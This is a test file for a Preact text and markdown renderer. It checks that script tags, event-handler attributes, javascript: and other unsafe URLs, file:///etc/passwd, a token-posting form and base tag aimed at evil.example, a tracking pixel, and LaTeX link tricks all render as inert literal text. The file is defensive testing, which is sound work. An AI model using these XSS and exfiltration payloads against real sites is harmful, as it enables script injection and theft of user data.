import { cleanup } from "@testing-library/preact";
import { afterEach, expect, test } from "vitest";
import { safeHref } from "../../src/text/links";
import { expectExact, expectHarmless, random, show, showAll } from "./show";

afterEach(cleanup);

const SEEN_AS_WRITTEN = [
  "<script>alert(1)</script>",
  "text <script>alert(1)</script> text",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)><animate onbegin=alert(1)>",
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  "<details open ontoggle=alert(1)>",
  '<a href="javascript:alert(1)">x</a>',
  "<style>*{display:none}</style>",
  '<form action="https://evil.example"><input name=token>',
  '<base href="https://evil.example/">',
  "<think>no tag of this text is one</think>",
  "a<b and c</div> and <unclosed",
  "</div></div></body></html>",
  "<!-- a comment -->",
  "<?php echo 1 ?>",
  "<![CDATA[ x ]]>",
  "<!DOCTYPE html>",
  '"><b onmouseover=alert(1)>',
];
test.each(SEEN_AS_WRITTEN)("%s is seen exactly as written", (source) => {
  const page = show(source);
  expect(page.textContent).toBe(source);
  expectHarmless(page);
  expectExact(page, source);
});

const NO_LINKS = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "javascript&colon;alert(1)",
  "java&Tab;script:alert(1)",
  "java&#10;script:alert(1)",
  "&#106;avascript:alert(1)",
  "\u0001javascript:alert(1)",
  "data:text/html,<b>",
  "vbscript:msgbox(1)",
  "file:///etc/passwd",
  "blob:https://a.b/c",
  "//evil.example",
  "/relative",
  "#anchor",
  "?query",
  "https:evil.example",
  "https:\\\\evil.example",
  "https://good.example@evil.example",
  "https://a.b/\u202egnp.exe",
  "https://a.b/\u200b",
  "ftp://a.b",
  "view-source:https://a.b",
];
test.each(NO_LINKS)("[x](%s) is no link, and shows where it would lead", (url) => {
  for (const source of [`[x](<${url}>)`, `[x](${url})`, `![x](<${url}>)`, `[x][y]\n\n[y]: <${url}>`, `<${url}>`]) {
    const page = show(source);
    expect(page.querySelector("a")).toBeNull();
    expectHarmless(page);
    expectExact(page, source);
  }
  expect(show(`[x](<${url}>)`).textContent).toContain("[x](<");
});

test("only the web and mail are addresses", () => {
  expect(safeHref("https://example.com/a?b=c#d")).toBe("https://example.com/a?b=c#d");
  expect(safeHref("HTTP://EXAMPLE.com")).toBe("http://example.com/");
  expect(safeHref("mailto:a@b.example")).toBe("mailto:a@b.example");
  expect(safeHref("https://xn--80ak6aa92e.com")).toContain("xn--");
  expect(safeHref(`https://a.b/${"c".repeat(3_000)}`)).toBeNull();
});

test("an image is never loaded", () => {
  const page = show("![a pixel](https://evil.example/p.gif?rater=ana)");
  expect(page.querySelector("img")).toBeNull();
  expect(page.querySelector("a")?.textContent).toBe("image: a pixel");
  expect(page.querySelector("a")?.getAttribute("href")).toBe("https://evil.example/p.gif?rater=ana");
});

test("links by reference, bare addresses and mail lead to their targets", () => {
  const page = show(
    "[a][b] https://c.example www.d.example me@e.example <https://f.example>\n\n[b]: https://b.example",
  );
  const targets = [...page.querySelectorAll("a")].map((link) => link.getAttribute("href"));
  expect(targets).toEqual([
    "https://b.example/",
    "https://c.example/",
    "http://www.d.example/",
    "mailto:me@e.example",
    "https://f.example/",
  ]);
  expectHarmless(page);
});

test("a definition that no link uses is no place to hide words", () => {
  expect(show("[//]: # (hidden)\n\ntext").textContent).toContain("hidden");
  expect(show("[a]: https://b.example 'hidden'\n\ntext").textContent).toContain("hidden");
});

const FRAGMENTS = [
  ...SEEN_AS_WRITTEN,
  ...NO_LINKS.map((url) => `[x](${url})`),
  "![",
  "](",
  "](https://a.b)",
  "[a]: javascript:x\n",
  "[a]",
  "**",
  "*",
  "__",
  "~~",
  "`",
  "```\n",
  "```js\n",
  "$",
  "$$",
  "\\(",
  "\\)",
  "\\[",
  "\\]",
  "\\href{javascript:alert(1)}{x}",
  "\\class{x}{y}",
  "\\htmlStyle{background:url(x)}{y}",
  "\\includegraphics{https://evil.example/x.png}",
  "\\color{red;background:url(x)}",
  "^2_{a}",
  "$\u202ex^2$",
  "\n",
  "\n\n",
  "\r\n",
  "\r",
  "\t",
  "  ",
  "    ",
  "> ",
  "- ",
  "1. ",
  "- [x] ",
  "# ",
  "|a|b|\n|-|-|\n|c|",
  "[^1]",
  "\n[^1]: note\n",
  "---\n",
  "&lt;script&gt;",
  "&amp;",
  "&#x202e;",
  "&#0;",
  "\u202e",
  "\u2066",
  "\u200b",
  "\0",
  "\ufeff",
  "\ud800",
  "👩‍💻",
  "مرحبا",
  "\\",
  "word",
  "a<b",
];

test("no mixture of hostile pieces makes anything that runs, and offsets stay exact", async () => {
  for (let seed = 1; seed <= 400; seed += 1) {
    const next = random(seed);
    let source = "";
    const length = 1 + Math.floor(next() * 24);
    for (let at = 0; at < length; at += 1) source += FRAGMENTS[Math.floor(next() * FRAGMENTS.length)] ?? "";
    const page = await showAll(source);
    expectHarmless(page);
    expectExact(page, source);
  }
});
